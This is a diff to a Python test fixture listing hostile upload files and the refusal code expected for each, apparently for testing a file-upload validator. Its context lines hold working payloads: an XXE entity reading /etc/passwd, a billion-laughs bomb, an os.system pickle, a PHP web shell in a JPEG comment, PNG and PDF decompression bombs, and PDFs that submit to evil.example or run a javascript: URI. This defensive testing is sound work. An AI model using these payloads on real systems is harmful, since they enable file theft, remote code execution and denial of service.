@@ -1,5 +1,7 @@
 """Hostile files beyond those of tests/documents, each with the codes of refusal that fit; none where it is made harmless."""
 
+# ruff: noqa: E501 - a hostile thing reads best on one line
+
 import io
 import struct
 import zipfile
@@ -115,7 +117,7 @@ def files() -> dict[str, tuple[Callable[[], bytes], str]]:
         "HTML behind a byte order mark": (lambda: b"\xef\xbb\xbf" + html, "file_type_not_taken"),
         "SVG": (lambda: svg, "file_type_not_taken"),
         "SVG, compressed": (lambda: zlib.compress(svg), "file_type_not_taken"),
-        "XML with an entity from outside": (lambda: 
+        "XML with an entity from outside": (lambda:
             b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "file_type_not_taken"),
         "billion laughs": (lambda: b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>', "file_type_not_taken"),
         "word processor's file": (lambda: _archive("[Content_Types].xml", "word/document.xml"), "file_type_not_taken"),
@@ -128,9 +130,9 @@ def files() -> dict[str, tuple[Callable[[], bytes], str]]:
         "pickle": (lambda: b"\x80\x04\x95cos\nsystem\n", "file_type_not_taken"),
         "PNG of 50,000 by 50,000": (lambda: png(50_000, 50_000, body=zlib.compress(b"\0" * 9_000_000)), "file_image_too_large"),
         "PNG of 2^31 by 2^31": (lambda: png(2**31 - 1, 2**31 - 1), "file_image_too_large"),
-        "PNG with a text bomb": (lambda: 
+        "PNG with a text bomb": (lambda:
             png(9, 9, *[_chunk(b"zTXt", b"k\0\0" + zlib.compress(b"\0" * 60_000_000))] * 40, body=zlib.compress(b"\0" * 300)), ""),
-        "PNG with a profile bomb": (lambda: 
+        "PNG with a profile bomb": (lambda:
             png(9, 9, _chunk(b"iCCP", b"k\0\0" + zlib.compress(b"\0" * 90_000_000)), body=zlib.compress(b"\0" * 300)), ""),
         "PNG of one pixel whose data is 300 MB": (lambda: png(1, 1, body=zlib.compress(b"\0" * 300_000_000, 9)), ""),
         "PNG that moves": (lambda: _animated("PNG"), ""),
@@ -140,7 +142,7 @@ def files() -> dict[str, tuple[Callable[[], bytes], str]]:
         "JPEG and PDF at once": (lambda: picture() + pdf(), ""),
         "JPEG and HTML at once": (lambda: picture(comment=html), ""),
         "JPEG and PHP at once": (lambda: picture(comment=b"<?php system($_GET[0]);"), ""),
-        "JPEG with place, camera and profile": (lambda: _located(), ""),
+        "JPEG with place, camera and profile": (_located, ""),
         "JPEG of a million markers": (lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * 1_000_000 + picture()[2:], ""),
         "PDF cut in half": (lambda: pdf(9)[: len(pdf(9)) // 2], "file_damaged"),
         "PDF and HTML at once": (lambda: pdf().replace(b"%PDF-", b"%PDF-" + html, 1), ""),
@@ -149,10 +151,10 @@ def files() -> dict[str, tuple[Callable[[], bytes], str]]:
         "PDF that submits": (lambda: pdf(1, _action("SubmitForm", F="http://evil.example")), ""),
         "PDF that goes elsewhere": (lambda: pdf(1, _action("GoToR", F="\\\\evil\\x")), ""),
         "PDF that opens an address": (lambda: pdf(1, _action("URI", URI="javascript:alert(1)")), ""),
-        "PDF of 10,000 pages": (lambda: _many_pages(), ""),
-        "PDF of ten thousand million pages": (lambda: _page_tree_bomb(), ""),
-        "PDF whose lengths lie": (lambda: _lengths_that_lie(), ""),
-        "PDF of two thousand filters": (lambda: _lzw_and_friends(), ""),
+        "PDF of 10,000 pages": (_many_pages, ""),
+        "PDF of ten thousand million pages": (_page_tree_bomb, ""),
+        "PDF whose lengths lie": (_lengths_that_lie, ""),
+        "PDF of two thousand filters": (_lzw_and_friends, ""),
     }  # fmt: skip
 
 
